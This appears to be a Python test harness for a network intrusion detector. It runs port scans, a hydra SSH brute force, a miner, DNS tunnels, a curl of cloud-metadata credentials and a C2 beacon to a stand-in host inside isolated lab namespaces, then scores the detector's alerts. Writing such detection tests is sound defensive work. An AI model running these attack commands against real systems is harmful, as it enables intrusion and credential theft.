"""Attack scenarios with real tools in a lab node (lab/netns.py): each builds pods as network
namespaces on a bridge, keeps a client busy with ordinary HTTP, runs the attack, records the bridge
with tcpdump, and scores the capture with the offline sensor and the core on a fresh embedded
default (no learning phase: signature rules judge from the first flow; baselines stay silent).

Hosts outside the cluster (a pool, a command server) are lab pods given documentation addresses
(RFC 5737) reachable over the bridge only; the metadata stand-in holds 169.254.169.254. No route
leads off the machine, and every tool run is bounded in count and time.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from lab.netns import LabUnavailable, Node, namespace_node, require_netns

TOOL = [sys.executable, str(Path(__file__).with_name("lab_tools.py"))]  # a script: runs from any directory
QUIET = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
POOL_IP, C2_IP, METADATA_IP = "203.0.113.77", "198.51.100.50", "169.254.169.254"


@dataclass(frozen=True)
class Scenario:
    name: str
    tool: str  # what ran, as a reader would rerun it
    expected: str  # the rule that must name the actor
    actor: str  # the attacking pod
    pods: tuple[str, ...]  # pods besides web and client
    attack: Callable[[Node, Path], None]
    needs: tuple[str, ...] = ()


@dataclass
class ScenarioResult:
    name: str
    tool: str
    expected: str
    actor_ip: str = ""
    alerts: list[tuple[str, str]] = field(default_factory=list)  # (type, source ip)
    bystanders: list[str] = field(default_factory=list)  # addresses of the pods that did nothing wrong
    skipped: str = ""
    error: str = ""

    @property
    def verdict(self) -> str:
        if self.skipped:
            return "skipped"
        if self.error:
            return "error"
        return "detected" if (self.expected, self.actor_ip) in self.alerts else "missed"

    @property
    def false_alarms(self) -> list[tuple[str, str]]:
        """Alerts naming a pod that did nothing wrong."""
        return [(t, ip) for t, ip in self.alerts if ip in self.bystanders]


def _serve_http(node: Node, pod: str, address: str, port: int, root: Path) -> subprocess.Popen:
    return node.start(pod, sys.executable, "-m", "http.server", str(port), "--bind", address, "--directory",
                      str(root), **QUIET)


def _hping3(node: Node, work: Path) -> None:
    node.run("attacker", "hping3", "--scan", "1-600", "-S", node.pods["web"], check=True, capture_output=True,
             timeout=120)


def _nmap(node: Node, work: Path) -> None:
    node.run("attacker", "nmap", "-n", "-Pn", "-T4", "--max-retries", "1", "-sS", "-p", "1-1000", node.pods["web"],
             check=True, capture_output=True, timeout=120)


def _masscan(node: Node, work: Path) -> None:
    web = node.pods["web"]  # masscan has its own TCP stack: name its interface, ARP the target directly
    node.run("attacker", "masscan", web, "-p1-500,8080", "--rate", "2000", "--wait", "2", "--interface",
             node.interface("attacker"), "--router-ip", web, check=True, capture_output=True, timeout=120)


def _ssh_brute_force(node: Node, work: Path) -> None:
    bastion = node.pods["bastion"]
    key = work / "host_ed25519"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    config = work / "sshd_config"
    config.write_text(f"Port 22\nListenAddress {bastion}\nHostKey {key}\nPidFile {work / 'sshd.pid'}\n"
                      "PasswordAuthentication yes\nKbdInteractiveAuthentication no\nUsePAM no\nStrictModes no\n"
                      "MaxStartups 100\nLoginGraceTime 10\n")
    Path("/run/sshd").mkdir(exist_ok=True)  # privilege separation directory
    sshd = node.start("bastion", "/usr/sbin/sshd", "-D", "-e", "-f", str(config), **QUIET)
    words = work / "passwords.txt"
    words.write_text("\n".join(f"Winter{year}!{i}" for year in range(2016, 2026) for i in range(10)) + "\n")
    try:
        time.sleep(1.0)
        node.run("attacker", "hydra", "-l", "admin", "-P", str(words), "-I", "-q", f"ssh://{bastion}",
                 capture_output=True, timeout=240)  # hydra's default 16 tasks
    finally:
        sshd.kill()
        sshd.wait(timeout=10)


def _stratum(node: Node, work: Path) -> None:
    node.add_address("pool", POOL_IP)
    pool = node.start("pool", *TOOL, "stratum-pool", POOL_IP, "3333", "30", **QUIET)
    try:
        time.sleep(1.0)
        node.run("gpu", *TOOL, "stratum-client", POOL_IP, "3333", "5", check=True, capture_output=True, timeout=60)
    finally:
        pool.kill()
        pool.wait(timeout=10)


def _dns_tunnel(shape: str) -> Callable[[Node, Path], None]:
    def attack(node: Node, work: Path) -> None:
        server = node.pods["dns"]
        responder = node.start("dns", *TOOL, "dns-server", server, "60", **QUIET)
        try:
            time.sleep(1.0)
            node.run("victim", *TOOL, "dns-tunnel", server, "t.tunnel-lab.example", shape, "120", "0.02",
                     check=True, capture_output=True, timeout=60)
        finally:
            responder.kill()
            responder.wait(timeout=10)
    return attack


def _metadata(node: Node, work: Path) -> None:
    node.add_address("imds", METADATA_IP)
    creds = work / "imds" / "latest" / "meta-data" / "iam" / "security-credentials"
    creds.mkdir(parents=True)
    (creds / "node-role").write_text('{"AccessKeyId": "ASIA-LAB", "SecretAccessKey": "lab", "Token": "lab"}')
    server = _serve_http(node, "imds", METADATA_IP, 80, work / "imds")
    try:
        time.sleep(1.0)
        node.run("app", "curl", "-sf", "--max-time", "5",
                 f"http://{METADATA_IP}/latest/meta-data/iam/security-credentials/node-role",
                 check=True, capture_output=True, timeout=30)
    finally:
        server.kill()
        server.wait(timeout=10)


def _beacon(node: Node, work: Path) -> None:
    node.add_address("c2", C2_IP)
    (work / "c2").mkdir()
    (work / "c2" / "task").write_text("sleep\n")
    server = _serve_http(node, "c2", C2_IP, 8443, work / "c2")
    try:
        time.sleep(1.0)
        node.run("implant", *TOOL, "beacon", f"http://{C2_IP}:8443/task", "25", "2.0", "0.2", check=True,
                 capture_output=True, timeout=120)
    finally:
        server.kill()
        server.wait(timeout=10)


SCENARIOS = (
    Scenario("hping3 SYN scan", "hping3 --scan 1-600 -S", "port_scan", "attacker", ("attacker",), _hping3, ("hping3",)),
    Scenario("nmap SYN scan", "nmap -sS -p 1-1000", "port_scan", "attacker", ("attacker",), _nmap, ("nmap",)),
    Scenario("masscan", "masscan -p1-500,8080 --rate 2000", "port_scan", "attacker", ("attacker",), _masscan,
             ("masscan",)),
    Scenario("SSH brute force", "hydra (16 tasks, 100 passwords) against OpenSSH sshd", "brute_force", "attacker",
             ("attacker", "bastion"), _ssh_brute_force, ("hydra", "ssh-keygen", "/usr/sbin/sshd")),
    Scenario("Stratum miner", "Stratum v1 client (subscribe, authorize, 5 submits) to a pool stand-in on 3333",
             "crypto_mining", "gpu", ("gpu", "pool"), _stratum),
    Scenario("DNS tunnel, iodine shape", "120 NULL questions, base32 labels", "dns_tunneling", "victim",
             ("victim", "dns"), _dns_tunnel("iodine")),
    Scenario("DNS tunnel, dnscat2 shape", "120 TXT questions, hex labels", "dns_tunneling", "victim",
             ("victim", "dns"), _dns_tunnel("dnscat2")),
    Scenario("metadata credential theft", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
             "metadata_access", "app", ("app", "imds"), _metadata, ("curl",)),
    Scenario("jittered beacon", "HTTP check-in every 2 s +-20%, 25 times, to 198.51.100.50:8443", "beaconing",
             "implant", ("implant", "c2"), _beacon),
)


def run_scenario(scenario: Scenario, workdir: Path | None = None) -> ScenarioResult:
    """Run one scenario in a fresh lab node and score its capture."""
    from kubesonar.compose import analyze

    result = ScenarioResult(scenario.name, scenario.tool, scenario.expected)
    missing = [t for t in ("tcpdump", *scenario.needs) if not (Path(t).exists() if t.startswith("/") else shutil.which(t))]
    if missing:
        result.skipped = f"{', '.join(missing)} not installed"
        return result
    try:
        require_netns()
    except LabUnavailable as exc:
        result.skipped = str(exc)
        return result
    with tempfile.TemporaryDirectory(prefix="kubesonar-lab-", dir=workdir) as tmp, \
            namespace_node(["web", "client", *scenario.pods]) as node:
        work = Path(tmp)
        web = node.pods["web"]
        (work / "site").mkdir()
        (work / "site" / "index.html").write_text("<p>shop</p>\n")
        capture = work / "node.pcap"
        server = _serve_http(node, "web", web, 8080, work / "site")
        dump = subprocess.Popen(["tcpdump", "-i", node.bridge, "-w", str(capture), "-U", "-s", "512"], **QUIET)
        client = None
        try:
            time.sleep(1.5)  # servers listening, tcpdump capturing
            client = node.start("client", *TOOL, "http-client", f"http://{web}:8080/", "240", "0.05", **QUIET)
            scenario.attack(node, work)
            time.sleep(1.0)
        except (subprocess.SubprocessError, OSError) as exc:
            result.error = f"{type(exc).__name__}: {exc}"
        finally:
            for proc in (client, server):
                if proc is not None:
                    proc.kill()
                    proc.wait(timeout=10)
            time.sleep(0.5)
            dump.terminate()
            dump.wait(timeout=10)
        result.actor_ip = node.pods[scenario.actor]
        result.bystanders = [ip for pod, ip in node.pods.items() if pod != scenario.actor]
        if not result.error:
            outcome = analyze([str(capture)], learning_period_s=0)
            result.alerts = sorted({(a["type"], a["source"]["ip"]) for a in outcome.alerts})
    return result


def run_scenarios(progress: Callable[[str], None] | None = None) -> list[ScenarioResult]:
    results = []
    for scenario in SCENARIOS:
        if progress:
            progress(scenario.name)
        results.append(run_scenario(scenario))
    return results
